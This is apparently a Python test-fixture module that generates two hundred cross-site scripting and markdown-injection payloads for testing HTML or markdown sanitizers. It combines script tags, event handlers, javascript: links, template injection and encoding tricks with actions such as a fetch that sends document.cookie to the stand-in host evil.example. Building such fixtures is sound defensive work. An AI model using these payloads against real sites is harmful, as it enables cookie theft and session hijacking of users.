"""Two hundred texts that try to become more than text."""

from __future__ import annotations

import itertools

# What each tries to do: set a mark on the window, or ask another place for something.
ACTS = ("window.hit=1", "alert(1)", "fetch('http://evil.example/'+document.cookie)", "location='http://evil.example/'")
ELEMENTS = (
    "<script>{}</script>", "<img src=x onerror=\"{}\">", "<svg onload=\"{}\">", "<svg><script>{}</script></svg>", "<iframe srcdoc=\"<script>parent.{}</script>\"></iframe>",
    "<body onload=\"{}\">", "<details open ontoggle=\"{}\">", "<input autofocus onfocus=\"{}\">", "<video><source onerror=\"{}\"></video>", "<a href=\"javascript:{}\">x</a>",
    "<form action=\"javascript:{}\"><button>x</button></form>", "<math><mtext><script>{}</script></mtext></math>", "\"><script>{}</script>", "'-{}-'", "</script><script>{}</script>",
    "</textarea><script>{}</script>", "</title><script>{}</script>", "<!--<img src=\"--><img src=x onerror={}//\">", "<x contenteditable onblur=\"{}\">", "<marquee onstart=\"{}\">",
    "<object data=\"javascript:{}\"></object>", "<embed src=\"javascript:{}\">", "<style>@import 'http://evil.example/';</style><p title='{}'>", "<link rel=stylesheet href=http://evil.example/{}>",
    "<base href=http://evil.example/><p>{}", "<meta http-equiv=refresh content=\"0;url=http://evil.example/?{}\">", "{{{{constructor.constructor('{}')()}}}}", "${{{}}}",
    "[x](javascript:{})", "[x](JaVaScRiPt:{})", "[x](&#106;avascript:{})", "![x](http://evil.example/{})", "![x](x\"onerror=\"{})", "<http://evil.example/{}>", "[x]: javascript:{}\n\n[x]",
    "[x](data:text/html,<script>{}</script>)", "[x](vbscript:{})", "[x](\x01javascript:{})", "`<script>{}</script>`", "```\n<script>{}</script>\n```", "| a |\n|---|\n| <script>{}</script> |",
    "> <img src=x onerror=\"{}\">", "1. <svg onload=\"{}\">", "# <script>{}</script>", "**<script>{}</script>**", "\u202e<script>{}</script>", "<scr\u0008ipt>{}</scr\u0008ipt>", "<ScRiPt>{}</sCrIpT>",
    "<script\n>{}</script\n>", "&lt;script&gt;{}&lt;/script&gt;",
)
PAYLOADS = [element.format(act) for element, act in itertools.product(ELEMENTS, ACTS)]
